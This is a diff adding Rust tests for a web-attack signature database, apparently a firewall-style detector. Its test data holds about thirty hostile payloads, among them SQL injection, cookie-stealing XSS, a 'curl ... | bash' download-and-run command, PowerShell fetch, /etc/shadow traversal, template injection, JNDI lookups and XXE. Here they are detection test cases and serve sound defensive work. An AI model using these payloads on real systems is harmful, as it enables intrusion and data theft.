@@ -1,0 +1,300 @@
+//! Database tests: the shipped files load and compile quickly, every signature matches its own
+//! positive examples and not its negative ones, set membership and lookups work, scans are bounded.
+
+use super::*;
+
+fn db() -> &'static SignatureDb {
+    SignatureDb::builtin()
+}
+
+#[test]
+fn builtin_database_loads() {
+    let db = SignatureDb::from_texts(BUILTIN).expect("shipped database parses and compiles");
+    assert!(db.signatures().len() >= 60, "{}", db.signatures().len());
+    for s in db.signatures() {
+        assert!(
+            (300_000_000..400_000_000).contains(&s.id),
+            "id {} outside our range",
+            s.id
+        );
+        assert!(!s.sets.is_empty(), "{} has no set", s.id);
+    }
+}
+
+#[test]
+fn every_signature_matches_its_examples() {
+    let mut failures = Vec::new();
+    for d in db().definitions() {
+        assert!(
+            !d.tests.is_empty(),
+            "signature {} has no positive example",
+            d.id
+        );
+        let t = d.targets[0];
+        for ex in &d.tests {
+            let mut hits = Vec::new();
+            db().scan(t, ex.as_bytes(), &mut hits);
+            if !hits.contains(&d.id) {
+                failures.push(format!("{} should match {ex:?}", d.id));
+            }
+        }
+        for ex in &d.passes {
+            let mut hits = Vec::new();
+            db().scan(t, ex.as_bytes(), &mut hits);
+            if hits.contains(&d.id) {
+                failures.push(format!("{} should not match {ex:?}", d.id));
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn ordinary_values_raise_nothing() {
+    let ordinary = [
+        "hello world",
+        "john.smith@example.com",
+        "2025-11-22T10:00:00Z",
+        "https://www.example.com/products?id=42&sort=price",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0",
+        "The quick brown fox jumps over the lazy dog; then it sleeps.",
+        "{\"name\":\"Widget\",\"price\":12.5,\"tags\":[\"a\",\"b\"]}",
+        "en-US,en;q=0.9",
+        "select your country",
+        "Tom & Jerry",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc",
+    ];
+    for v in ordinary {
+        for &t in &[Target::ParamValue, Target::Header, Target::Json] {
+            let mut hits = Vec::new();
+            db().scan(t, v.as_bytes(), &mut hits);
+            assert!(hits.is_empty(), "{v:?} in {t:?} raised {hits:?}");
+        }
+    }
+}
+
+#[test]
+fn targets_restrict_where_a_signature_applies() {
+    let mut hits = Vec::new();
+    db().scan(Target::Header, b"sqlmap/1.7", &mut hits);
+    assert!(hits.contains(&300_006_013));
+    hits.clear();
+    db().scan(Target::ParamValue, b"sqlmap/1.7", &mut hits);
+    assert!(!hits.contains(&300_006_013));
+}
+
+#[test]
+fn evasions_are_seen_through() {
+    let cases: &[&str] = &[
+        "c'a't /e't'c/passwd",
+        "1/**/UNION/**/SELECT/**/1,2",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "${\\u006a\\u006e\\u0064\\u0069:ldap://x/a}",
+        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    ];
+    for c in cases {
+        let mut hits = Vec::new();
+        db().scan(Target::ParamValue, c.as_bytes(), &mut hits);
+        assert!(!hits.is_empty(), "{c:?} not detected");
+    }
+}
+
+#[test]
+fn lookups_and_sets() {
+    let s = db().get(300_001_001).expect("UNION SELECT signature");
+    assert_eq!(s.attack_type, "SQL-Injection");
+    assert!(s.sets.iter().any(|x| x == "SQL Injection Signatures"));
+    assert!(s.sets.iter().any(|x| x == "Generic Detection Signatures"));
+    assert!(s.sets.iter().any(|x| x == "High Accuracy Signatures"));
+    let php = db().get(300_005_001).expect("PHP tag signature");
+    assert_eq!(php.systems, vec!["PHP".to_string()]);
+    assert!(!php.sets.iter().any(|x| x == "Generic Detection Signatures"));
+    assert!(db().get(1).is_none());
+    let sqli: Vec<u32> = db().ids_in_set("SQL Injection Signatures").collect();
+    assert!(sqli.contains(&300_001_001) && !sqli.contains(&300_002_001));
+    assert_eq!(
+        db().ids_in_set("All Signatures").count(),
+        db().signatures().len()
+    );
+    let names = db().set_names();
+    for n in [
+        "High Accuracy Signatures",
+        "Generic Detection Signatures",
+        "Cross Site Scripting Signatures",
+    ] {
+        assert!(names.contains(&n), "{n} missing from {names:?}");
+    }
+}
+
+#[test]
+fn bad_databases_are_rejected_with_a_reason() {
+    let dup = "id: 1\nname: a\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nliteral: x\n\n\
+               id: 1\nname: b\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nliteral: y\n";
+    assert!(matches!(
+        SignatureDb::from_texts(&[dup]),
+        Err(LoadError::Duplicate(1))
+    ));
+    let bad = "id: 2\nname: a\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nregex: (unclosed\n";
+    let e = SignatureDb::from_texts(&[bad]).err().expect("bad regex");
+    assert!(e.to_string().contains("signature 2"), "{e}");
+    let huge = "id: 3\nname: a\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nregex: (?:a{1000}){1000}\n";
+    assert!(
+        SignatureDb::from_texts(&[huge]).is_err(),
+        "size limit enforced"
+    );
+}
+
+#[test]
+fn compiles_quickly() {
+    let start = std::time::Instant::now();
+    let _db = SignatureDb::from_texts(BUILTIN).expect("compiles");
+    let took = start.elapsed();
+    // 200 ms is the release-build goal; unoptimised test builds get a 10x allowance.
+    assert!(took.as_millis() < 2000, "compile took {took:?}");
+}
+
+#[test]
+fn large_clean_body_scans_without_hits() {
+    let body = "lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(2000);
+    let mut hits = Vec::new();
+    db().scan(Target::Body, body.as_bytes(), &mut hits);
+    assert!(hits.is_empty(), "{hits:?}");
+}
+
+#[test]
+fn fuzz_seeds_never_panic() {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/fuzz/seeds/scan");
+    for e in std::fs::read_dir(dir)
+        .expect("seed directory exists")
+        .flatten()
+    {
+        let data = std::fs::read(e.path()).expect("seed readable");
+        for &t in Target::ALL {
+            let mut hits = Vec::new();
+            db().scan(t, &data, &mut hits);
+        }
+    }
+}
+
+/// Hand-written attacks of every class, none taken from the evaluation corpus: the database must
+/// generalise beyond the samples it was tuned on.
+#[test]
+fn unseen_attacks_of_every_class_are_detected() {
+    let attacks: &[(Target, &str)] = &[
+        (
+            Target::ParamValue,
+            "-1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
+        ),
+        (
+            Target::ParamValue,
+            "1 AND (SELECT 5171 FROM (SELECT(SLEEP(5)))xYzA)",
+        ),
+        (Target::Json, "admin\"/**/or/**/1=1#"),
+        (Target::Cookie, "abc'; EXEC xp_cmdshell('whoami');--"),
+        (
+            Target::ParamValue,
+            "<details open ontoggle=fetch('//x.example/'+document.cookie)>",
+        ),
+        (Target::ParamValue, "<svg><script href=data:,alert(1) />"),
+        (Target::Header, "\"><img src=1 onerror=confirm`1`>"),
+        (
+            Target::ParamValue,
+            "x;curl -s http://198.51.100.7/a.sh|bash",
+        ),
+        (Target::ParamValue, "$(nslookup `whoami`.x.example)"),
+        (
+            Target::ParamValue,
+            "127.0.0.1 | powershell -nop -c iex(New-Object Net.WebClient)",
+        ),
+        (Target::ParamValue, "....//....//....//etc/shadow"),
+        (Target::Url, "/static/..%5c..%5c..%5cwindows/win.ini"),
+        (
+            Target::ParamValue,
+            "php://filter/read=convert.base64-encode/resource=../config.php",
+        ),
+        (Target::ParamValue, "https://198.51.100.3/shell.txt?"),
+        (
+            Target::ParamValue,
+            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+        ),
+        (
+            Target::ParamValue,
+            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+        ),
+        (Target::Json, "{\"$where\": \"sleep(5000) || true\"}"),
+        (Target::ParamName, "password[$regex]"),
+        (Target::ParamValue, "*)(|(cn=*))"),
+        (
+            Target::Xml,
+            "<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://x.example/e.dtd\"> %ext;]>",
+        ),
+        (Target::ParamValue, "http://[::ffff:127.0.0.1]:6379/"),
+        (Target::Header, "${jndi:rmi://x.example:1099/o}"),
+        (Target::Header, "() { ignored; }; /bin/bash -c 'id'"),
+        (Target::ParamValue, "en\r\nLocation: https://evil.example/"),
+        (
+            Target::ParamValue,
+            "<!--#include virtual=\"/etc/passwd\" -->",
+        ),
+        (
+            Target::ParamValue,
+            "require('child_process').execSync('cat /etc/passwd')",
+        ),
+        (
+            Target::ParamValue,
+            "java.lang.Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})",
+        ),
+        (
+            Target::Header,
+            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+        ),
+        (Target::ParamValue, "x@example.com%0ABcc:all@example.com"),
+        (
+            Target::ParamValue,
+            "O:8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}",
+        ),
+    ];
+    let mut missed = Vec::new();
+    for (t, a) in attacks {
+        let mut hits = Vec::new();
+        db().scan(*t, a.as_bytes(), &mut hits);
+        if hits.is_empty() {
+            missed.push(*a);
+        }
+    }
+    assert!(missed.is_empty(), "missed: {missed:#?}");
+}
+
+/// Ordinary input that looks a little like an attack must pass.
+#[test]
+fn benign_near_misses_pass() {
+    let benign = [
+        "Please select a union representative from the list",
+        "Drop me a line; I'll update you on Monday",
+        "rock & roll | jazz; blues",
+        "C:/Users/me/Documents/report.docx",
+        "The script ran; see /var/tmp for output",
+        "width=100&height=200",
+        "I'd like 2 <3 of these",
+        "email me at first.last+tag@example.co.uk",
+        "SELECT-ed items: 4",
+        "what's 5 * 6?",
+        "Sleep well, and dream",
+        "1.2.3",
+        "Tom's order #42 (urgent)",
+        "{\"user\":\"alice\",\"roles\":[\"reader\"]}",
+        "Java and JavaScript are different languages",
+        "curl up with a good book",
+        "price: $19.99",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
+    ];
+    let mut flagged = Vec::new();
+    for b in benign {
+        let mut hits = Vec::new();
+        db().scan(Target::ParamValue, b.as_bytes(), &mut hits);
+        if !hits.is_empty() {
+            flagged.push(format!("{b:?} -> {hits:?}"));
+        }
+    }
+    assert!(flagged.is_empty(), "{flagged:#?}");
+}
